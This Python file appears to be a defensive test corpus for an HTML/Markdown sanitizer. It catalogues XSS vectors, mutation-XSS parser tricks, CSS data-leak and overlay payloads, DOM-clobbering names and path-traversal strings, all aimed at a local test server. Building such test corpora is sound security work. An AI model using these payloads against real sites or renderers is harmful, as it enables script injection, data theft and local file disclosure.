"""What a post may hold that means harm, as HTML in its Markdown.

In each text, HTTP and LOCAL stand for a server of this machine (by number and by name), OUT for the path of a folder
outside the site, UP for the way there from the post, and RUN for a script that marks the page and asks that server.
"""

RUN = (
    "document.documentElement.dataset.ran='yes';new Image().src='HTTP/run';fetch('HTTP/run');"
    "navigator.sendBeacon('HTTP/run')"
)

SCRIPTS = {
    "script": "<script>RUN</script>",
    "script from elsewhere": "<script src='HTTP/x.js'></script><script type=module src='HTTP/x.mjs'></script>",
    "script in svg": "<svg><script>RUN</script><script href='HTTP/x.js' xlink:href='HTTP/y.js'/></svg>",
    "importmap": '<script type="importmap">{"imports":{"a":"HTTP/a.js"}}</script><script type=speculationrules>'
    '{"prefetch":[{"source":"list","urls":["HTTP/s"]}]}</script>',
    "onerror": '<img src="/none.png" onerror="RUN"><video src="/none.mp4" onerror="RUN"></video>',
    "onload": '<svg onload="RUN"></svg><body onload="RUN"><img src="/own.svg" onload="RUN">',
    "ontoggle": '<details open ontoggle="RUN"><summary onclick="RUN" onfocus="RUN" tabindex=1 autofocus>x</summary></details>',
    "onanimation": '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="RUN" onanimationend="RUN">x</p>',
    "onpointer": '<p onpointerover="RUN" onclick="RUN" onmouseover="RUN" onfocusin="RUN" onscroll="RUN">x</p>',
    "onbegin": '<svg><animate onbegin="RUN" attributeName=x dur=1s /><set onbegin="RUN" attributeName=x /></svg>',
    "upper case": '<IMG SRC="/none.png" ONERROR="RUN"><SCRIPT>RUN</SCRIPT><ScRiPt/x>RUN</sCrIpT>',
    "slashes": '<img/src="/none.png"/onerror="RUN"><svg/onload="RUN">',
    "custom element": '<x-a is="x-b" onclick="RUN"></x-a><p is="y" slot="z" part="q" exportparts="q">x</p>',
    "shadow root": '<div><template shadowrootmode="open"><img src=/none.png onerror="RUN"><script>RUN</script></template></div>',
    "popover": '<button popovertarget=p>o</button><div id=p popover onbeforetoggle="RUN">x</div>'
    '<button commandfor=p command=show-popover onclick="RUN">x</button>',
}  # fmt: skip

FRAMES = {
    "iframe": "<iframe src='HTTP/f'></iframe><iframe src='OUT/c.html'></iframe><iframe src='UP/c.html'></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>top.RUN</script><img src='HTTP/d'>\" allow='camera'></iframe>",
    "iframe javascript": "<iframe src=\"javascript:RUN\"></iframe><iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "iframe file": "<iframe src='file://OUT/c.html'></iframe><iframe src='view-source:file://OUT/c.html'></iframe>",
    "iframe shell": "<iframe src='copydesk://shell/shell.html'></iframe><iframe src='chrome://version'></iframe>",
    "object": "<object data='HTTP/o' type='text/html'></object><object data='file://OUT/c.html'></object>"
    "<object classid='clsid:x' codebase='HTTP/c'><param name=src value='HTTP/p'></object>",
    "embed": "<embed src='HTTP/e'><embed src='file://OUT/c.svg' type='image/svg+xml'><embed src='UP/c.svg'>",
    "applet": "<applet code='HTTP/a.class' archive='HTTP/a.jar'></applet><bgsound src='HTTP/b'><portal src='HTTP/p'></portal>"
    "<fencedframe src='HTTP/f'></fencedframe><frameset><frame src='HTTP/f'></frameset>",
}  # fmt: skip

PLACES = {
    "meta refresh": "<meta http-equiv='refresh' content='0;url=HTTP/m'><meta http-equiv=refresh content='0;url=file://OUT/c.html'>",
    "meta policy": "<meta http-equiv='Content-Security-Policy' content=\"default-src *\"><meta http-equiv=set-cookie content='a=b'>"
    "<img src='HTTP/p'>",
    "meta referrer": "<meta name=referrer content=unsafe-url><a href='HTTP/r' referrerpolicy=unsafe-url>x</a>",
    "base": "<base href='HTTP/'><img src='a.png'><a href='b'>x</a><base target=_blank>",
    "form": "<form action='HTTP/f' method=post><input name=a value=b><input type=submit><input type=image src='HTTP/i'>"
    "<button>Go</button></form>",
    "formaction": "<form id=f></form><button form=f formaction='HTTP/b'>Go</button><input type=submit form=f formaction='HTTP/c'>"
    "<button formaction='javascript:RUN' form=f>x</button>",
    "isindex": "<isindex action='HTTP/i'><keygen><menuitem label=x onclick='RUN'>",
    "file chooser": "<input type=file onchange='RUN'><input type=color><input type=date><label for=z>l</label><input id=z type=file>",
    "link rel": "".join(
        f"<link rel='{rel}' href='HTTP/{rel}' as=image>"
        for rel in ("stylesheet", "icon", "prefetch", "preload", "prerender", "preconnect", "dns-prefetch", "modulepreload",
                    "manifest", "import", "alternate stylesheet", "next", "search", "compression-dictionary", "expect")
    ) + "<link rel=stylesheet href='file://OUT/c.css'><link rel=stylesheet href='UP/c.css'>",
    "window.open": "<a href='HTTP/w' target=_blank>w</a><a href='HTTP/n' target=named rel=opener>n</a>"
    "<a href='HTTP/t' target=_top>t</a><map name=m><area href='HTTP/area' target=_blank></map><img usemap=#m src=/own.svg>",
    "download": "<a href='HTTP/d' download=x.exe>d</a><a href='/own.svg' download>d</a><a href='data:x/y,z' download=z.desktop>d</a>"
    "<a href='blob:null/1' download>d</a>",
    "ping": "<a href='#x' ping='HTTP/ping'>p</a><a href='HTTP/q' ping='HTTP/ping' attributionsrc='HTTP/a'>q</a>"
    "<img attributionsrc='HTTP/a' src=/own.svg><h2 id=x>x</h2>",
}  # fmt: skip

LINKS = {
    "javascript": "<a href='javascript:RUN'>x</a> [x](javascript:RUN) <a href=' java\tscript:RUN'>x</a>"
    "<a href='&#1;javascript:RUN'>x</a><a href='JaVaScRiPt&colon;RUN'>x</a><a href='javascript&NewLine;:RUN'>x</a>",
    "vbscript and livescript": "<a href='vbscript:x'>x</a><a href='livescript:x'>x</a><a href='mocha:x'>x</a>",
    "data": "<a href='data:text/html,<script>RUN</script>'>x</a><a href='data:image/svg+xml,<svg onload=RUN>'>x</a>",
    "file": "<a href='file://OUT/c.html'>x</a><a href='FILE:OUT/c.html'>x</a><a href='OUT/c.html'>x</a><a href='UP/c.html'>x</a>"
    "<a href='UP/c.md'>x</a> [x](UP/c.md) [x](file://OUT/c.md)",
    "custom schemes": "".join(
        f"<a href='{scheme}:x'>x</a>"
        for scheme in ("copydesk", "chrome", "vscode", "ms-msdt", "steam", "smb", "ssh", "telnet", "intent", "about", "blob",
                       "view-source", "filesystem", "x-help", "search-ms", "jar", "ws")
    ),
    "our own shell": "<a href='copydesk://shell/shell.html'>x</a><a href='copydesk://site/1?/own.svg'>x</a><a href='//shell/x'>x</a>",
    "svg links": "<svg><a xlink:href='javascript:RUN' href='javascript:RUN'><text x=1 y=9>x</text></a></svg>"
    "<math href='javascript:RUN'><mi href='javascript:RUN' xlink:href='javascript:RUN'>x</mi></math>",
    "svg animates a link": "<svg><a id=q><text x=1 y=9>x</text><animate attributeName=href values='javascript:RUN' /></a>"
    "<a><text x=1 y=9>y</text><set attributeName='xlink:href' to='javascript:RUN'/></a></svg>",
}  # fmt: skip

PICTURES = {
    "http": "<img src='HTTP/i.png'> ![x](HTTP/m.png) <img src='LOCAL/l.png'> <img src='//127.0.0.1:PORT/p.png'>"
    "<img src='\\\\127.0.0.1:PORT\\b.png'><img src='/\\127.0.0.1:PORT/b.png'><img src='ht\ntp://127.0.0.1:PORT/n.png'>",
    "no scheme": "<img src='http:127.0.0.1:PORT/a.png'><img src='///127.0.0.1:PORT/a.png'><img src='https:/127.0.0.1:PORT/b'>"
    "<img src=' \x01HTTP/c.png'><img src='HTTP/d.png\n'>",
    "srcset": "<img srcset='HTTP/1 1x, HTTP/2 2x'><img src=/own.svg srcset='HTTP/3 100w,HTTP/4 200w' sizes=50px>"
    "<img srcset='/own.svg,HTTP/5 2x'><img srcset='data:,x, HTTP/6 2x'><img srcset=' , ,HTTP/7'>",
    "picture": "<picture><source srcset='HTTP/s' media='all'><source src='HTTP/t' srcset='LOCAL/u 2x'><img src=/own.svg></picture>",
    "lazy": "<img loading=lazy src='HTTP/z'><img lowsrc='HTTP/y' dynsrc='HTTP/x' src=/own.svg longdesc='HTTP/w'>",
    "video": "<video src='HTTP/v' poster='HTTP/p' autoplay preload=auto><source src='HTTP/s'><track src='HTTP/t' default></video>",
    "audio": "<audio src='HTTP/a' autoplay controls></audio><audio><source src='LOCAL/b'></audio>",
    "input and table": "<input type=image src='HTTP/i'><table background='HTTP/t'><td background='HTTP/u'>x</table>"
    "<body background='HTTP/b'>",
    "svg": "<svg><image href='HTTP/i' xlink:href='HTTP/x'/><use href='HTTP/u#a'/><feImage href='HTTP/f' xlink:href='HTTP/f2'/>"
    "<filter id=f><feImage href='HTTP/g'/></filter><rect filter='url(#f)' fill='url(HTTP/p#q)' width=9 height=9 /></svg>",
    "svg presentation": "<svg><rect width=9 height=9 fill='url(HTTP/a#x)' filter='url(HTTP/b#x)' mask='url(HTTP/c#x)' "
    "clip-path='url(HTTP/d#x)' cursor='url(HTTP/e), auto' marker-end='url(HTTP/f#x)' /></svg>",
    "svg foreignObject": "<svg><foreignObject width=99 height=99><img xmlns='http://www.w3.org/1999/xhtml' src='HTTP/o' onerror='RUN'>"
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='HTTP/p'></iframe></foreignObject></svg>",
    "svg animates": "<svg><image><animate attributeName=href values='HTTP/a' /><set attributeName='xlink:href' to='HTTP/b'/></image>"
    "<use><set attributeName=href to='HTTP/c#x'/></use><rect><animate attributeName=fill values='url(HTTP/d#x)' /></rect></svg>",
    "svg use data": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>#x'/></svg>",
    "data svg": "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22><image "
    "href=%22HTTP/i%22/><script>RUN</script></svg>'>",
    "data others": "<img src='data:text/html,<script>RUN</script>'><video src='data:video/mp4,x'></video>",
    "math": "<math><mglyph src='HTTP/g' /><maction actiontype='statusline#HTTP/x' xlink:href='HTTP/m'>x</maction>"
    "<annotation-xml encoding='text/html'><img src='HTTP/n' onerror='RUN'></annotation-xml></math>",
}  # fmt: skip

STYLES = {
    "import": "<style>@import 'HTTP/a.css'; @import url(file://OUT/c.css);</style>",
    "font": "<style>@font-face { font-family: x; src: url(HTTP/f.woff2), url(file://OUT/c.woff2) } p { font-family: x }</style><p>x</p>",
    "url": "<p style='background: url(HTTP/a)'>x</p><p style='background-image: image-set(\"HTTP/b\" 1x)'>x</p>"
    "<p style='content: url(HTTP/c); list-style-image: url(LOCAL/d); cursor: url(HTTP/e), auto; border-image: url(HTTP/f)'>x</p>"
    "<li style='list-style: url(HTTP/g)'>x</li><p style='background: u\\rl(HTTP/h)'>x</p><p style='--x:url(HTTP/i);background:var(--x)'>x</p>"
    "<p style='mask: url(HTTP/j); clip-path: url(HTTP/k#x); filter: url(HTTP/l#x); shape-outside: url(HTTP/m)'>x</p>"
    "<p style='background: url(file://OUT/c.svg)'>x</p><p style='offset-path: url(HTTP/n#p)'>x</p>",
    "expression": "<p style='width: expression(RUN); behavior: url(HTTP/b.htc); -moz-binding: url(HTTP/x.xml#a)'>x</p>",
    "leak": "<style>input[value^=a] { background: url(HTTP/leak) } @media print { p { background: url(HTTP/print) } }</style>",
    "covers": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red' class=cover>x</div>"
    "<div style='position:absolute;top:-500px;left:-500px;width:9999px;height:9999px;background:red' class=cover>x</div>"
    "<p style='margin:-9999px;padding:9999px;outline:9999px solid red;box-shadow:0 0 0 9999px red' class=cover>x</p>"
    "<p style='transform:scale(99) translate(-99px,-99px);position:relative;z-index:99' class=cover>x</p>"
    "<dialog open class=cover style='position:fixed;inset:-99px;width:9999px;height:9999px'>x</dialog>"
    "<div style='position:sticky;top:0;bottom:0;height:9999px' class=cover>x</div><style>html::before { content: 'x'; position: fixed; "
    "inset: 0; background: red } body { display: none } main { contain: none !important }</style>",
    "style in svg": "<svg><style>@import 'HTTP/a.css';* { fill: url(HTTP/b) }</style></svg><svg><style><img src=/none.png onerror='RUN'></svg>",
}  # fmt: skip

MUTATIONS = {
    "noscript": "<noscript><p title='</noscript><img src=/none.png onerror=RUN>'></noscript>",
    "mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/none.png onerror=RUN&gt;'>",
    "annotation": "<math><annotation-xml encoding='text/html'><style></math><img src=/none.png onerror='RUN'></style>",
    "style in svg": "<svg></p><style><a id='</style><img src=/none.png onerror=RUN>'>",
    "desc": "<svg><desc><template><style><!--</style><img title='--><img src=/none.png onerror=RUN>'></template></desc></svg>",
    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src=/none.png onerror=RUN>",
    "template": "<template><img src=/none.png onerror='RUN'></template><table><template><td><script>RUN</script></template></table>",
    "comment": "<!--><img src=/none.png onerror='RUN'>--><!---!><img src=/none.png onerror='RUN'>--!><img src=/none.png onerror='RUN'>",
    "cdata": "<![CDATA[<img src=/none.png onerror='RUN'>]]><svg><![CDATA[><img src=/none.png onerror='RUN'>]]></svg>",
    "instruction": "<?xml-stylesheet href='HTTP/x.css'?><?x><img src=/none.png onerror='RUN'>?><!DOCTYPE x [<!ENTITY a SYSTEM 'HTTP/e'>]>&a;",
    "title and textarea": "<title><img src=/none.png onerror='RUN'></title><textarea></textarea><img src=/none.png onerror='RUN'>",
    "xmp and plaintext": "<xmp><img src=/none.png onerror='RUN'></xmp><noembed></noembed><img src=/none.png onerror='RUN'><plaintext>x",
    "select": "<select><style></select><img src=/none.png onerror='RUN'></style><select><iframe></select><script>RUN</script>",
    "nested": "<scr<script>ipt>RUN</scr</script>ipt><im<b>g src=x onerror='RUN'>",
    "attribute quotes": "<img src=`x` onerror=`RUN`><p title='\"><script>RUN</script>'>x</p><p title=\"'><img src=/none.png onerror=RUN>\">x</p>",
    "unclosed": "<img src='/none.png' onerror='RUN' <p title='<script>RUN</script",
    "nul": "<scr\0ipt>RUN</scr\0ipt><img src=/none.png on\0error='RUN'>",
    "display step": "<span class=\"arithmatex\">\\(x\\href{javascript:RUN}{y}\\unicode{<img src=x onerror=RUN>}\\)</span>"
    "<span class=\"arithmatex\">\\(&lt;script&gt;RUN&lt;/script&gt;\\)</span><script type=\"math/tex\">\\text{<img src=/none.png onerror='RUN'>}</script>"
    "<copydesk-placeholder kind=\"x\" name=\"y\"><img src=/none.png onerror='RUN'></copydesk-placeholder>"
    "<pre class=\"mermaid\">graph TD; a--><img src=/none.png onerror='RUN'></pre>",
    "our own marks": "<img data-copydesk-url='HTTP/u' data-copydesk-size='9x9' src='/none.png'><div class='copydesk-asleep' "
    "style='height:9px'></div><p data-copydesk-label='x' class='copydesk-placeholder copydesk-part' id='copydesk-article'>x</p>",
}  # fmt: skip

CLOBBERING = {
    name: "".join(
        f"<img id='{word}' name='{word}' src=/own.svg><a id='{word}' name='{word}'>x</a><form id='{word}' name='{word}'>"
        f"<input name='{word}' id='{word}'><button name='{word}'>y</button></form>"
        for word in words
    )
    for name, words in {
        "our ids": ("copydesk-article", "copydesk-caret", "copydesk-page", "copydeskBlocks", "copydeskClean", "copydeskPlace"),
        "the document": ("getElementById", "querySelector", "querySelectorAll", "createElement", "createTreeWalker", "body", "head",
                         "documentElement", "scrollingElement", "implementation", "defaultView", "hidden", "addEventListener"),
        "the window": ("qt", "QWebChannel", "webChannelTransport", "requestAnimationFrame", "getSelection", "JSON", "Node", "self", "top"),
        "elements": ("attributes", "children", "childNodes", "parentNode", "parentElement", "firstChild", "nextSibling", "localName",
                     "nodeName", "nodeType", "innerHTML", "textContent", "remove", "replaceWith", "append", "isEqualNode", "contains",
                     "setAttribute", "getAttribute", "hasAttribute", "closest", "matches", "style", "dataset", "className"),
        "prototypes": ("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "length", "item", "0"),
    }.items()
}  # fmt: skip

TRAVERSAL = {
    "pictures": "".join(
        f"<img src='{way}'>"
        for way in (
            "UP/c.svg", "/UP/c.svg", "x/../UP/c.svg", "%2e%2e/%2e%2e/%2e%2e/outside/c.svg", "..%2f..%2f..%2foutside%2fc.svg",
            "%252e%252e/%252e%252e/outside/c.svg", "..\\..\\..\\outside\\c.svg", "..%5c..%5c..%5coutside%5cc.svg", "OUT/c.svg", "//OUT/c.svg",
            "file://OUT/c.svg", "FILE:/OUT/c.svg", "copydesk://site/1?OUT/c.svg", "copydesk://site/1?../../outside/c.svg", "copydesk:OUT/c.svg",
            "/link.svg", "/folder/c.svg", "/own.svg/../../outside/c.svg", "UP/c.svg%00.svg", "UP/c.svg?x", "UP/c.svg#x", "./UP/c.svg;a",
            "....//....//outside/c.svg", "%c0%ae%c0%ae/outside/c.svg", "．．/outside/c.svg", "~/c.svg", "/proc/self/root/OUT/c.svg", "OUT\\c.svg",
            "../../../outside/c.png", "../../../outside/c.txt", "/link.svg?x=.png", "{static}/../../outside/c.svg", "@site/../../outside/c.svg",
        )
    ),
    "films, sounds and sets": "<video src='UP/c.svg' poster='UP/c.svg'></video><audio src='/folder/c.svg'></audio>"
    "<img srcset='UP/c.svg 1x, /link.svg 2x, /folder/c.svg'><input type=image src='/link.svg'>"
    "<svg><image href='UP/c.svg' xlink:href='/link.svg'/><use href='UP/c.svg#a'/></svg>",
}  # fmt: skip

ALL = {
    f"{group}: {name}": html
    for group, some in {
        "scripts": SCRIPTS,
        "frames": FRAMES,
        "places": PLACES,
        "links": LINKS,
        "pictures": PICTURES,
        "styles": STYLES,
        "mutations": MUTATIONS,
        "clobbering": CLOBBERING,
        "traversal": TRAVERSAL,
    }.items()
    for name, html in some.items()
}


def armed(html: str, port: int, outside: str) -> str:
    """Return an attack with its addresses filled in."""
    html = html.replace("RUN", RUN).replace("HTTP", f"http://127.0.0.1:{port}")
    html = html.replace("LOCAL", f"http://localhost:{port}").replace("PORT", str(port))
    return html.replace("UP", "../../../outside").replace("OUT", outside)
